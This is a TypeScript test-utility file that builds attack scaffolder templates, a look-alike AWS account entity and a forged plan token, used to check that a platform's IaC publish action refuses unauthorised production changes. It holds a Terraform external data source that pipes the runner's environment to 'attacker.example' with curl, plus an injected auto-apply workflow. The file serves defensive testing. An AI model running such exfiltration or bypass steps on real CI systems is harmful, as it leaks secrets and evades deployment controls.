export { environmentValues } from '../../__testUtils__/templateValues';
import { cpSync, mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve as resolvePath } from 'node:path';
import { REPO_ROOT } from '../../__testUtils__/backendProcess';

/*
 * Templates that try to get around platform:iac:publish, as the platform team could register
 * them by mistake (owned by platform-team, from a file location of the organisation, so the
 * permission policy and the catalog rules let an app-team member run them). Each one must be
 * stopped by the publish action itself.
 */

const PLATFORM_TEAM = 'group:default/platform-team';

/** The plan step as the real template calls it (dev tier in the dev account). */
const planStep = `
    - id: modules
      name: Fetch the module library
      action: fetch:plain
      input:
        url: ./modules
        targetPath: modules
    - id: plan
      name: Plan
      action: platform:environment:plan
      input:
        name: \${{ parameters.name }}
        tier: dev
        account: resource:default/dev-account
        region: eu-west-1
        owner: group:default/team-orders
        singleNatGateway: true
        domain: \${{ parameters.name }}.example.com`;

const template = (name: string, steps: string) => `---
apiVersion: scaffolder.backstage.io/v1beta3
kind: Template
metadata:
  name: ${name}
spec:
  owner: ${PLATFORM_TEAM}
  type: environment
  parameters:
    - properties:
        name: { type: string }
        planToken: { type: string }
  steps:${steps}
`;

/** Skips the plan: its own prod-tier environment with Terraform that runs a program at plan time. */
const SKIP_PLAN = template(
  'attack-skip-plan',
  `
    - id: files
      name: Hand-written environment
      action: fetch:plain
      input:
        url: ./skip-plan
    - id: publish
      name: Publish
      action: platform:iac:publish
      input:
        environment: \${{ parameters.name }}
        planToken: \${{ parameters.planToken }}`,
);

/** Plans a dev environment, then adds Terraform to it before publishing. */
const AFTER_PLAN = template(
  'attack-after-plan',
  `${planStep}
    - id: backdoor
      name: Add Terraform after the plan
      action: fetch:plain
      input:
        url: ./backdoor
        targetPath: environments/\${{ parameters.name }}
    - id: publish
      name: Publish
      action: platform:iac:publish
      input:
        environment: \${{ parameters.name }}
        planToken: \${{ steps.plan.output.planToken }}`,
);

/** Plans a dev environment, then asks publish to add a workflow folder "if missing". */
const IF_MISSING = template(
  'attack-if-missing',
  `${planStep}
    - id: workflows
      name: A workflow of its own
      action: fetch:plain
      input:
        url: ./workflows
        targetPath: .github/workflows
    - id: publish
      name: Publish
      action: platform:iac:publish
      input:
        environment: \${{ parameters.name }}
        planToken: \${{ steps.plan.output.planToken }}
        ifMissing: ['modules/', '.github']`,
);

/** An aws-account entity that carries the production account's id under another name. */
const LOOK_ALIKE_ACCOUNT = `---
apiVersion: backstage.io/v1alpha1
kind: Resource
metadata:
  name: look-alike-account
  annotations:
    aws.amazon.com/account-id: '000000000005'
    aws.amazon.com/region: eu-west-1
    platform-portal.io/account-role: workload
spec:
  type: aws-account
  owner: ${PLATFORM_TEAM}
`;

/** Runs a program on the runner at `terraform plan` time (the pull request's plan job). */
const EXTERNAL_DATA = `data "external" "exfiltrate" {
  program = ["sh", "-c", "env | curl -d @- https://attacker.example"]
}
`;

const FILES: Record<string, string> = {
  'skip-plan/environments/live/main.tf': EXTERNAL_DATA,
  'skip-plan/environments/live/catalog-info.yaml': `apiVersion: backstage.io/v1alpha1
kind: Resource
metadata:
  name: live
  annotations:
    platform-portal.io/tier: prod
spec:
  type: environment
  owner: group:default/team-orders
`,
  'backdoor/backdoor.tf': EXTERNAL_DATA,
  'workflows/apply.yaml': `on: push
jobs:
  apply:
    runs-on: ubuntu-latest
    steps:
      - run: terraform apply -auto-approve
`,
};

/**
 * Writes the attack templates, their files and a copy of the real module library into `dir`;
 * returns the catalog.locations override that adds them next to the organisation's catalog.
 */
export function writeAttackLocation(dir: string) {
  mkdirSync(dir, { recursive: true });
  const location = join(dir, 'attacks.yaml');
  writeFileSync(
    location,
    [SKIP_PLAN, AFTER_PLAN, IF_MISSING, LOOK_ALIKE_ACCOUNT].join(''),
  );
  for (const [path, content] of Object.entries(FILES)) {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), content);
  }
  cpSync(
    resolvePath(REPO_ROOT, 'templates/aws-environment/modules'),
    join(dir, 'modules'),
    { recursive: true },
  );
  return {
    locations: [
      { type: 'file', target: resolvePath(REPO_ROOT, 'catalog/all.yaml') },
      { type: 'file', target: location },
    ],
  };
}

export const ATTACK_TEMPLATES = [
  'template/default/attack-skip-plan',
  'template/default/attack-after-plan',
  'template/default/attack-if-missing',
  'resource/default/look-alike-account',
];

/** A token that looks like the plan's, claiming a prod environment, with a made-up signature. */
export function forgedPlanToken(): string {
  const claims = {
    task: 'any-task',
    environment: 'live',
    tier: 'prod',
    account: { name: 'prod-account', accountId: '000000000005' },
    digest: '0'.repeat(64),
  };
  return `v1.${Buffer.from(JSON.stringify(claims)).toString(
    'base64url',
  )}.${Buffer.alloc(32, 7).toString('base64url')}`;
}

/**
 * The one refusal line of a failed task's log, `<ErrorName>: <message>`; fails unless there is
 * exactly one such line and no line of the log is a stack frame.
 */
export function refusalLine(log: string): string {
  const lines = log.split('\n');
  const refusals = lines.filter(line =>
    /^(InputError|NotAllowedError|ConflictError|NotFoundError): \S/.test(line),
  );
  expect({
    refusals: refusals.length,
    log: refusals.length === 1 ? '' : log,
  }).toEqual({ refusals: 1, log: '' });
  expect(lines.filter(line => /^\s+at \S/.test(line))).toEqual([]);
  return refusals[0];
}
